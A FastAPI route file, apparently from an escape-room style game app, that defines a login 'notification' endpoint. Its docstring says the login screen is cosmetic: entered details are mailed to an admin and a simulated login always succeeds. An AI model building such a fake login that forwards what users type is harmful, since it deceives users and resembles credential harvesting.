"""
Auth notification endpoint.

The login screen is cosmetic: it forwards the entered details here so the
admin gets a mail, then completes the simulated login regardless of the
outcome.

- POST /api/auth/notify - best-effort login/signup notification
"""

import logging

from fastapi import APIRouter, status
from fastapi.responses import JSONResponse

from escapezone.schemas.auth import LoginNotification, NotifyResponse
from escapezone.services.notification_service import send_login_notification

logger = logging.getLogger(__name__)

router = APIRouter(prefix="/api/auth", tags=["auth"])


@router.post(
    "/notify",
    response_model=NotifyResponse,
    response_model_exclude_none=True,
    summary="Notify admin of a login",
    responses={500: {"model": NotifyResponse, "description": "Mail could not be sent"}},
)
async def notify_login(notification: LoginNotification):
    logger.info(f"POST /api/auth/notify called: type={notification.type}, provider={notification.provider}")

    result = await send_login_notification(notification)
    if not result.success:
        return JSONResponse(
            status_code=status.HTTP_500_INTERNAL_SERVER_ERROR,
            content=result.model_dump(exclude_none=True),
        )
    return result
